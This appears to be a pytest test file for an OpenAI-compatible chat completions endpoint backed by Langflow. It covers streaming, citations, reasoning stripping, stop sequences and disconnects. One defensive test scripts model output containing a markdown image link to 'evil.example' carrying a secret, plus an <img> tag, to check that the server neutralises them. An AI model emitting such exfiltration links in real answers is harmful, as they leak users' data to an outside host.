"""/v1/chat/completions as OpenAI's own client for Python uses it."""

import asyncio

import openai
import pytest

from ai_chatbot.models import Conversation, Message, Usage
from ai_chatbot.openai import asking
from tests.ai_chatbot.conftest import an_answer_has_said, stored_answer, until
from tests.ai_chatbot.openai.conftest import (
    USAGE,
    assistant,
    nothing_runs,
    pieces,
    says_with_passages,
    user,
)
from tests.scripted_langflow import answer as answer_of
from tests.scripted_langflow import end, token

pytestmark = pytest.mark.django_db(transaction=True)
MODEL = "notes_assistant"
BRIDGE = ("Bridge", "The bridge was built in 1873 by Anna Berg.")
TOWER = ("Tower", "The tower is 40 metres tall.")


def script(langflow, text, *, size=5):
    langflow.script = [*map(token, pieces(text, size)), end(text, USAGE)]


async def ask(client, text="Why?", **wishes):
    return await client.chat.completions.create(model=MODEL, messages=[user(text)], **wishes)


async def stream(client, text="Why?", **wishes):
    return [chunk async for chunk in await ask(client, text, stream=True, **wishes)]


def words_of(chunks):
    return "".join(c.choices[0].delta.content or "" for c in chunks if c.choices)


async def test_the_published_flow_is_the_model(client):
    models = [model async for model in client.models.list()]

    assert [(model.id, model.object) for model in models] == [(MODEL, "model")]
    assert (await client.models.retrieve(MODEL)).id == MODEL


async def test_a_question_has_a_whole_answer(client, scripted_langflow):
    script(scripted_langflow, "Because.")

    completion = await ask(client)

    choice = completion.choices[0]
    assert (choice.message.role, choice.message.content) == ("assistant", "Because.")
    assert (choice.index, choice.finish_reason) == (0, "stop")
    assert (completion.object, completion.model) == ("chat.completion", MODEL)
    usage = completion.usage
    assert (usage.prompt_tokens, usage.completion_tokens, usage.total_tokens) == (40, 12, 52)


async def test_it_is_kept_as_any_conversation_with_its_door_and_token(client, scripted_langflow):
    script(scripted_langflow, "Because.")

    completion = await ask(client)

    answer = await Message.objects.select_related("parent").aget(role="assistant")
    assert (answer.parent.text, answer.text) == ("Why?", "Because.")
    assert (answer.door, answer.token_name) == ("openai", "a program")
    assert completion.id == f"chatcmpl-{answer.pk.hex}"
    assert (await Usage.objects.aget()).door == "openai"


@pytest.mark.parametrize(
    "text",
    ["Because.", "橋は長い。とても。", "הגשר ארוך", "Cafe\u0301 au lait.\n\n- a\u2028b\x85c"],
)
async def test_streamed_it_begins_with_the_role_and_ends_with_the_reason(
    client, scripted_langflow, text
):
    script(scripted_langflow, text, size=3)

    chunks = await stream(client)

    assert chunks[0].choices[0].delta.role == "assistant"
    assert words_of(chunks) == text
    reasons = [chunk.choices[0].finish_reason for chunk in chunks]
    assert reasons == [None] * (len(chunks) - 1) + ["stop"]
    assert {chunk.object for chunk in chunks} == {"chat.completion.chunk"}
    assert len({chunk.id for chunk in chunks}) == 1
    assert all(chunk.usage is None for chunk in chunks)


async def test_usage_comes_last_where_it_is_wanted(client, scripted_langflow):
    script(scripted_langflow, "Because.")

    chunks = await stream(client, stream_options={"include_usage": True})

    assert chunks[-1].choices == []
    assert chunks[-1].usage.total_tokens == 52
    assert all(chunk.usage is None for chunk in chunks[:-1])


async def test_words_come_while_they_are_written(client, scripted_langflow):
    go_on = asyncio.Event()
    scripted_langflow.script = [token("One "), go_on, token("two."), end("One two.")]

    chunks = await ask(client, stream=True)
    async for chunk in chunks:
        if chunk.choices[0].delta.content:
            break
    first = chunk.choices[0].delta.content
    go_on.set()
    rest = [chunk async for chunk in chunks]

    assert (first, words_of(rest)) == ("One ", "two.")


# --- Citations --------------------------------------------------------------------------------


async def test_a_citation_has_the_passages_address_title_and_the_marks_place(
    client, server, scripted_langflow
):
    text = "It was built in 1873 [1]. The tower is 40 metres tall [2]."
    await says_with_passages(scripted_langflow, text, BRIDGE, TOWER)

    message = (await ask(client, "When was the bridge built?")).choices[0].message

    first, second = [each.url_citation for each in message.annotations]
    assert (first.url, first.title) == (f"{server}/notes/1/?from=0", "Bridge")
    assert text[first.start_index : first.end_index] == "[1]"
    assert (second.title, text[second.start_index : second.end_index]) == ("Tower", "[2]")
    assert message.content == text


async def test_streamed_citations_are_the_same(client, scripted_langflow):
    text = "It was built in 1873 [1]. And 橋 [9]."
    await says_with_passages(scripted_langflow, text, BRIDGE)

    chunks = await stream(client, "When was the bridge built?")

    notes = [
        c.choices[0].delta.annotations for c in chunks if hasattr(c.choices[0].delta, "annotations")
    ]
    assert len(notes) == 1
    assert [note["url_citation"]["title"] for note in notes[0]] == ["Bridge"]
    assert words_of(chunks) == text


async def test_a_sentence_without_its_mark_is_given_one(client, scripted_langflow):
    text = "I looked. The bridge was built in 1873 by Anna Berg."
    await says_with_passages(scripted_langflow, text, BRIDGE, TOWER)

    message = (await ask(client, "When?")).choices[0].message

    [note] = [each.url_citation for each in message.annotations]
    assert note.title == "Bridge"
    assert message.content[: note.start_index].endswith("built in 1873 by Anna Berg ")
    assert message.content[note.start_index : note.end_index] == "[1]"


async def test_a_mark_that_is_not_borne_out_cites_nothing(client, scripted_langflow):
    await says_with_passages(scripted_langflow, "Bananas are yellow fruits [1].", BRIDGE)

    assert (await ask(client, "What?")).choices[0].message.annotations == []


async def test_the_clients_own_helper_puts_the_stream_together(client, scripted_langflow):
    said = "It was built in 1873 [1]. 🌉 The bridge was built by Anna Berg [1]."
    text = f"<think>\nHm.\n</think>\n{said}"
    await says_with_passages(scripted_langflow, text, BRIDGE)

    stream = client.chat.completions.stream(
        model=MODEL,
        messages=[user("When was the bridge built?")],
        stream_options={"include_usage": True},
    )
    async with stream as events:
        completion = await events.get_final_completion()

    message = completion.choices[0].message
    assert message.content == said
    assert [each.url_citation.title for each in message.annotations] == ["Bridge", "Bridge"]
    assert completion.usage.total_tokens == 52


async def test_a_program_that_blocks_asks_as_well(server, key, scripted_langflow):
    script(scripted_langflow, "Because.")

    def ask_in_a_thread():
        with openai.OpenAI(base_url=f"{server}/v1", api_key=key, max_retries=0) as client:
            chunks = client.chat.completions.create(
                model=MODEL, messages=[user("Why?")], stream=True
            )
            return words_of(list(chunks))

    assert await asyncio.to_thread(ask_in_a_thread) == "Because."


# --- What a model thinks, and what could run ---------------------------------------------------


async def test_thoughts_are_no_content(client, scripted_langflow):
    script(scripted_langflow, "<think>\nHm, notes.\n</think>\n\nBecause.", size=3)

    whole = (await ask(client)).choices[0].message
    chunks = await stream(client)

    assert (whole.content, whole.reasoning_content.strip()) == ("Because.", "Hm, notes.")
    assert words_of(chunks) == "Because."
    deltas = [getattr(c.choices[0].delta, "reasoning_content", None) or "" for c in chunks]
    assert "".join(deltas).strip() == "Hm, notes."


async def test_thoughts_of_which_the_end_alone_is_marked_are_none_in_a_whole_answer(
    client, scripted_langflow
):
    script(scripted_langflow, "Hm, notes.\n</think>\n\nBecause.", size=3)

    message = (await ask(client)).choices[0].message

    assert (message.content, message.reasoning_content.strip()) == ("Because.", "Hm, notes.")
    assert "</think>" not in words_of(await stream(client))


async def test_nothing_in_it_is_fetched_or_run_by_whoever_shows_it(client, scripted_langflow):
    script(scripted_langflow, "Look ![x](https://evil.example/?q=secret) <img src=//evil>", size=1)

    said = words_of(await stream(client))

    assert "![" not in said
    assert "<img" not in said
    assert (await ask(client)).choices[0].message.content == said


# --- Where it is cut ---------------------------------------------------------------------------


@pytest.mark.parametrize("stop", ["END", ["x", "END"], ["EN", "END OF"]])
async def test_a_stop_ends_the_answer_and_its_run(client, scripted_langflow, stop):
    never = asyncio.Event()
    scripted_langflow.script = [*map(token, ["One", " two ", "E", "N", "D of", " it"]), never]

    chunks = await stream(client, stop=stop)

    assert words_of(chunks) == "One two "
    assert chunks[-1].choices[0].finish_reason == "stop"
    await asyncio.wait_for(scripted_langflow.hung_up.wait(), 60)


@pytest.mark.parametrize("name", ["max_tokens", "max_completion_tokens"])
async def test_after_so_many_tokens_it_is_cut(client, scripted_langflow, name):
    scripted_langflow.script = [*map(token, ["12345678"] * 10), asyncio.Event()]

    completion = await ask(client, **{name: 3})

    assert completion.choices[0].finish_reason == "length"
    assert completion.choices[0].message.content == "123456781234"
    assert completion.usage.completion_tokens == 3
    await asyncio.wait_for(scripted_langflow.hung_up.wait(), 60)


async def test_a_client_that_leaves_stops_the_run(client, scripted_langflow):
    scripted_langflow.script = [token("One "), asyncio.Event()]

    chunks = await ask(client, stream=True)
    async for chunk in chunks:
        if chunk.choices[0].delta.content:
            break
    await chunks.close()

    await asyncio.wait_for(scripted_langflow.hung_up.wait(), 60)
    await until(nothing_runs)
    assert (await stored_answer()).status == "stopped"


async def test_one_that_waits_for_the_whole_and_leaves_stops_it_too(client, scripted_langflow):
    scripted_langflow.script = [token("One "), asyncio.Event()]

    waiting = asyncio.create_task(ask(client))
    await until(lambda: Message.objects.filter(status="running").aexists())
    await until(lambda: an_answer_has_said("One "))
    waiting.cancel()

    await asyncio.wait_for(scripted_langflow.hung_up.wait(), 60)


async def test_who_cut_it_off_may_ask_on_at_once(client, scripted_langflow):
    scripted_langflow.script = [token("One two"), asyncio.Event()]
    await ask(client, "Count.", max_tokens=1)
    script(scripted_langflow, "three")

    on = await client.chat.completions.create(
        model=MODEL, messages=[user("Count."), assistant("One "), user("Go on.")]
    )

    assert on.choices[0].message.content == "three"
    assert await Conversation.objects.acount() == 1


async def test_while_an_answer_is_written_its_conversation_takes_no_other(
    client, scripted_langflow, monkeypatch
):
    monkeypatch.setattr(asking, "PATIENCE", 0.2)
    scripted_langflow.script = [token("One "), asyncio.Event()]
    chunks = await ask(client, "Count.", stream=True)
    async for chunk in chunks:
        if chunk.choices[0].delta.content:
            break

    on = [user("Count."), assistant("One"), user("Go on.")]
    with pytest.raises(openai.ConflictError, match="still being written"):
        await client.chat.completions.create(model=MODEL, messages=on)

    await chunks.close()
    assert await Message.objects.acount() == 2


async def test_an_answer_that_says_all_at_its_end_is_told(client, scripted_langflow):
    scripted_langflow.script = [end("All at once.")]

    assert words_of(await stream(client)) == "All at once."


async def test_a_long_one_comes_whole(client, scripted_langflow):
    text = "Wörter und `code` ![1] in Zeilen.\n" * 2000
    scripted_langflow.script = answer_of(*pieces(text, 2000))

    said = words_of(await stream(client))

    assert said == text.replace("![", "! [")
